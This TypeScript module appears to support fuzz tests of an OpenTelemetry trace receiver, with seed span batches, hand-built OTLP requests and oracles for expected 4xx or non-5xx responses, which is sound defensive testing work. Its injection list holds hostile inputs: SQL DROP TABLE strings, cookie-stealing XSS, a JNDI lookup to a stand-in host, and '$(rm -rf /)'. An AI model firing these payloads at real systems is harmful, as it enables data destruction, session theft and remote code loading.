/*
 * What the hostile OTLP model (hostileOtlpArbitraries.ts) starts from and
 * judges by: valid batches of real GenAI spans made by the OpenTelemetry SDK
 * and serialized by the OpenTelemetry OTLP serializers; hand-made OTLP/JSON
 * requests; and the oracles that say which payloads the receiver must refuse
 * as a whole (4xx) and which it may accept (any answer below 500).
 */
import { SpanStatusCode } from '@opentelemetry/api';
import fc from 'fast-check';
import {
  JsonTraceSerializer,
  ProtobufTraceSerializer,
} from '@opentelemetry/otlp-transformer';
import { resourceFromAttributes } from '@opentelemetry/resources';
import {
  BasicTracerProvider,
  InMemorySpanExporter,
  SimpleSpanProcessor,
} from '@opentelemetry/sdk-trace-base';
import { storableText } from '@trellis/plugin-microapps-common';
import { gunzipSync, inflateSync } from 'zlib';
import { ExportTraceServiceRequest } from '../telemetry/receiver/otlpMessageTypes';

/**
 * What the receiver must answer: `4xx` when the request must be refused as a
 * whole (undecodable, too large, unsupported); `no-5xx` when a 200, possibly
 * with `partialSuccess` rejecting spans, is correct too.
 */
export type HostileExpectation = '4xx' | 'no-5xx';

export const HOSTILE_CATEGORIES = [
  'valid-seed',
  'truncated-protobuf',
  'truncated-json',
  'mutated-protobuf',
  'mutated-json',
  'json-wrong-types',
  'not-a-request',
  'protobuf-wire-types',
  'compression',
  'oversized',
  'unsupported-media',
  'empty',
  'duplicates',
  'injection',
  'deep-nesting',
] as const;
export type HostileCategory = (typeof HOSTILE_CATEGORIES)[number];

export interface HostilePayload {
  /** `<category>: <what was done>`. */
  name: string;
  category: HostileCategory;
  /** The Content-Type header; empty for none. */
  contentType: string;
  contentEncoding?: string;
  body: Buffer;
  expect: HostileExpectation;
  /** Generated text put where it must be stored verbatim (see {@link storedText}). */
  injection?: { text: string; as: string };
}

export const JSON_TYPE = 'application/json';
export const PROTOBUF_TYPE = 'application/x-protobuf';
export const MiB = 1024 * 1024;

/**
 * A payload, judged by the oracle of its Content-Type unless `expect` says
 * otherwise, and printed by fast-check by its name and size, not its bytes.
 */
export function hostilePayload(
  category: HostileCategory,
  detail: string,
  contentType: string,
  body: Buffer,
  options: Partial<
    Pick<HostilePayload, 'expect' | 'contentEncoding' | 'injection'>
  > = {},
): HostilePayload {
  const name = `${category}: ${detail}`;
  const expect =
    options.expect ??
    (contentType === JSON_TYPE ? expectJson(body) : expectProtobuf(body));
  const payload = { name, category, contentType, body, ...options, expect };
  const how = [contentType || 'no type', options.contentEncoding];
  return Object.defineProperty(payload, fc.toStringMethod, {
    value: () =>
      `${name} (${how.filter(Boolean).join(', ')}, ${
        body.length
      } bytes, expect ${expect})`,
  });
}

/** The MicroApps of the example catalog the spans belong to. */
export const HOSTILE_APPS = {
  extractor: 'invoice-field-extractor',
  campaign: 'campaign-copy-assistant',
  nda: 'nda-triage',
  injection: 'vendor-risk-screener',
} as const;

/**
 * Classic injection strings that must survive ingest unchanged (see
 * {@link storedText}): no leading or trailing white space (attribute text is
 * trimmed), at most 199 characters (models must be shorter than 200).
 */
export const INJECTION_STRINGS: readonly string[] = [
  "'; DROP TABLE microapps_violations; --",
  '" OR 1=1 --',
  "Robert'); DROP TABLE microapps_usage_daily;--",
  "'||(SELECT sqlite_version())||'",
  '1; DELETE FROM microapps_span_keys WHERE 1=1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg/onload=alert(`xss`)>',
  "{{constructor.constructor('alert(1)')()}}",
  '${jndi:ldap://evil.test/a}',
  '$(rm -rf /) `id`',
  '../../../../etc/passwd',
  '%00%0d%0aSet-Cookie: hacked=1',
  'line1\r\nline2\ttabbed',
  'nul\u0000inside',
  'bell\u0007escape\u001b[31mred\u001b[0m',
  'rtl\u202eoverride\u202c',
  'zero\u200bwidth\ufeffbom',
  'emoji 🚀🔥 and 𝕦𝕟𝕚𝕔𝕠𝕕𝕖',
  '日本語のルール / العربية / Ünïcödé',
  '__proto__',
  'constructor',
  'back\\slash \\u0000 \\" quote',
  'microapp:default/../../etc',
  `max-${'x'.repeat(195)}`,
];

/** How Trellis stores attribute text: U+0000 and unpaired surrogates become U+FFFD. */
export const storedText = storableText;

// ---------------------------------------------------------------- seeds

export interface SeedBatch {
  label: string;
  json: Buffer;
  protobuf: Buffer;
}

type SpanSpec = [name: string, attributes: Attributes, policy?: boolean];
type Attributes = Record<string, string | number | boolean | number[]>;
const genAi = (model: string, input: number, output: number) => ({
  'gen_ai.operation.name': 'chat',
  'gen_ai.system': 'azure.ai.openai',
  'gen_ai.request.model': model,
  'gen_ai.usage.input_tokens': input,
  'gen_ai.usage.output_tokens': output,
});
const appResource = (name: string) => ({
  'service.name': name,
  'trellis.microapp.ref': `microapp:default/${name}`,
  'deployment.environment.name': 'production',
});

/** Spans of one resource, by the real SDK, with counted ids: the same seeds every time. */
function sdkSpans(nowMs: number, resource: Attributes, specs: SpanSpec[]) {
  const memory = new InMemorySpanExporter();
  let counter = 0;
  const service = String(resource['service.name']);
  const id = (bytes: number) =>
    `${Buffer.from(service).toString('hex')}${(++counter).toString(16)}`
      .padStart(bytes * 2, '1')
      .slice(-bytes * 2);
  const provider = new BasicTracerProvider({
    resource: resourceFromAttributes(resource),
    spanProcessors: [new SimpleSpanProcessor(memory)],
    idGenerator: { generateTraceId: () => id(16), generateSpanId: () => id(8) },
  });
  const tracer = provider.getTracer('trellis-hostile-model', '1.0.0');
  specs.forEach(([name, attributes, policy], i) => {
    const start = nowMs - 5 * 60_000 + i * 1_000;
    const span = tracer.startSpan(name, { startTime: start, attributes });
    if (policy) {
      span.addEvent(
        'trellis.policy',
        {
          'trellis.policy.decision': 'redact',
          'trellis.policy.violation': 'pii_detected',
          'trellis.policy.rule': 'pii.email',
        },
        start + 100,
      );
      span.setStatus({ code: SpanStatusCode.ERROR, message: 'failed' });
    }
    span.end(start + 850);
  });
  return memory.getFinishedSpans();
}

/** Three valid batches (one app; three resources; message content), as OTLP/JSON and protobuf. */
export function seedBatches(nowMs: number): SeedBatch[] {
  const { extractor, campaign, nda } = HOSTILE_APPS;
  const mini = 'azure-gpt-4.1-mini';
  const batches = {
    extractor: sdkSpans(nowMs, appResource(extractor), [
      ['chat', { ...genAi(mini, 12_345, 2_345), 'enduser.id': 'alice' }],
      ['chat', { ...genAi(mini, 10, 9), 'gen_ai.usage.cost': 0.0125 }],
      ['extract fields', { 'app.document.pages': 3, 'app.ok': true }],
    ]),
    'multi-app': [
      ...sdkSpans(nowMs, appResource(campaign), [
        ['chat', genAi('azure-gpt-4.1', 800, 120), true],
        ['chat', { ...genAi('azure-gpt-4.1', 10, 10), 'guard.score': 0.97 }],
      ]),
      ...sdkSpans(nowMs, { 'service.name': 'shadow-sql-helper' }, [
        ['chat', genAi('openai-gpt-4o', 50, 5)],
      ]),
    ],
    content: sdkSpans(nowMs, appResource(nda), [
      ['chat', { ...genAi(mini, 400, 40), 'app.scores': [0.5, 0.25] }],
    ]),
  };
  return Object.entries(batches).map(([label, spans]) => ({
    label,
    json: Buffer.from(JsonTraceSerializer.serializeRequest(spans)!),
    protobuf: Buffer.from(ProtobufTraceSerializer.serializeRequest(spans)!),
  }));
}

// ---------------------------------------------------------------- hand-made requests

export interface KeyValueJson {
  key: string;
  value: unknown;
}
export const kv = (key: string, value: unknown) => ({ key, value });
export const str = (value: string) => ({ stringValue: value });
export interface SpanIds {
  traceId: string;
  spanId: string;
}

/** An OTLP/JSON request: one GenAI span of `service`, with more attributes where asked. */
export function appRequest(
  nowMs: number,
  ids: SpanIds,
  options: {
    service?: string;
    model?: string;
    attributes?: KeyValueJson[];
    resource?: KeyValueJson[];
  } = {},
) {
  const startNs = BigInt(nowMs - 4 * 60_000) * 1_000_000n;
  const attributes = [
    kv('gen_ai.operation.name', str('chat')),
    kv('gen_ai.request.model', str(options.model ?? 'azure-gpt-4.1-mini')),
    kv('gen_ai.usage.input_tokens', { intValue: '100' }),
    kv('gen_ai.usage.output_tokens', { intValue: '10' }),
    ...(options.attributes ?? []),
  ];
  const span = {
    ...ids,
    name: 'chat',
    kind: 3,
    startTimeUnixNano: String(startNs),
    endTimeUnixNano: String(startNs + 750_000_000n),
    attributes,
  };
  const service = options.service ?? HOSTILE_APPS.extractor;
  const resource = [
    kv('service.name', str(service)),
    ...(options.resource ?? []),
  ];
  const scopeSpans = [{ scope: { name: 'hostile' }, spans: [span] }];
  return {
    resourceSpans: [{ resource: { attributes: resource }, scopeSpans }],
  };
}

export const jsonBody = (value: unknown) =>
  Buffer.from(JSON.stringify(value), 'utf8');

/** OTLP/JSON (hex ids) to protobuf bytes, through the receiver's own schema. */
export function protobufBody(request: unknown): Buffer {
  const hexToBytes = (value: unknown): unknown => {
    if (Array.isArray(value)) return value.map(hexToBytes);
    if (!value || typeof value !== 'object') return value;
    return Object.fromEntries(
      Object.entries(value).map(([key, item]) => [
        key,
        /^(traceId|spanId)$/.test(key)
          ? Buffer.from(item, 'hex')
          : hexToBytes(item),
      ]),
    );
  };
  const message = ExportTraceServiceRequest.fromObject(
    hexToBytes(request) as {},
  );
  return Buffer.from(ExportTraceServiceRequest.encode(message).finish());
}

// ---------------------------------------------------------------- oracles

/** A JSON value's kind: null, boolean, number, string, array or object. */
export function kindOf(value: unknown) {
  if (value === null) return 'null';
  return Array.isArray(value) ? 'array' : typeof value;
}

/** Must a protobuf body be refused? Whatever protobufjs cannot decode must. */
export function expectProtobuf(body: Buffer): HostileExpectation {
  try {
    ExportTraceServiceRequest.decode(body);
    return 'no-5xx';
  } catch {
    return '4xx';
  }
}

/** Must a JSON body be refused? Whatever is not JSON, or not an object, must; no body is no spans. */
export function expectJson(body: Buffer): HostileExpectation {
  if (body.length === 0) return 'no-5xx';
  try {
    const value = JSON.parse(body.toString('utf8'));
    return kindOf(value) === 'object' ? 'no-5xx' : '4xx';
  } catch {
    return '4xx';
  }
}

/** Must a compressed body be refused: does it decompress, within the limit, to an acceptable body? */
export function expectCompressed(
  body: Buffer,
  encoding: string,
  contentType: string,
  maxBodyBytes: number,
): HostileExpectation {
  if (body.length === 0) return 'no-5xx';
  let inflated: Buffer;
  try {
    const deflate = encoding.trim().toLowerCase() === 'deflate';
    inflated = deflate ? inflateSync(body) : gunzipSync(body);
  } catch {
    return '4xx';
  }
  if (inflated.length > maxBodyBytes) return '4xx';
  return contentType === JSON_TYPE
    ? expectJson(inflated)
    : expectProtobuf(inflated);
}

const RESOURCE_ATTRIBUTES = 'resourceSpans.#.resource.attributes';
/** Paths where only an array (or null) will do; a value of another kind fails the request. */
const ARRAYS = [
  'resourceSpans',
  'resourceSpans.#.scopeSpans',
  'resourceSpans.#.scopeSpans.#.spans',
  RESOURCE_ATTRIBUTES,
];
/** Paths where only an object will do (an attribute's value may be null). */
const OBJECTS = [
  '',
  'resourceSpans.#',
  'resourceSpans.#.scopeSpans.#',
  `${RESOURCE_ATTRIBUTES}.#`,
  `${RESOURCE_ATTRIBUTES}.#.value`,
];
/** Paths where only a string will do. */
const STRINGS = [
  `${RESOURCE_ATTRIBUTES}.#.key`,
  `${RESOURCE_ATTRIBUTES}.#.value.stringValue`,
];

/**
 * Must a request be refused when the value at `path` of a seed is replaced by
 * `value`? The request's structure must be whole, and so must the resource's
 * attributes, which say whose spans these are; a bad field inside a span or
 * scope only rejects that span.
 */
export function expectRetyped(
  path: Array<string | number>,
  value: unknown,
): HostileExpectation {
  const at = path.map(p => (typeof p === 'number' ? '#' : p)).join('.');
  const kind = kindOf(value);
  const nullable = ARRAYS.includes(at) || at.endsWith('.value');
  if (kind === 'null' && nullable) return 'no-5xx';
  if (ARRAYS.includes(at) && kind !== 'array') return '4xx';
  if (OBJECTS.includes(at) && kind !== 'object') return '4xx';
  if (STRINGS.includes(at) && kind !== 'string') return '4xx';
  return 'no-5xx';
}
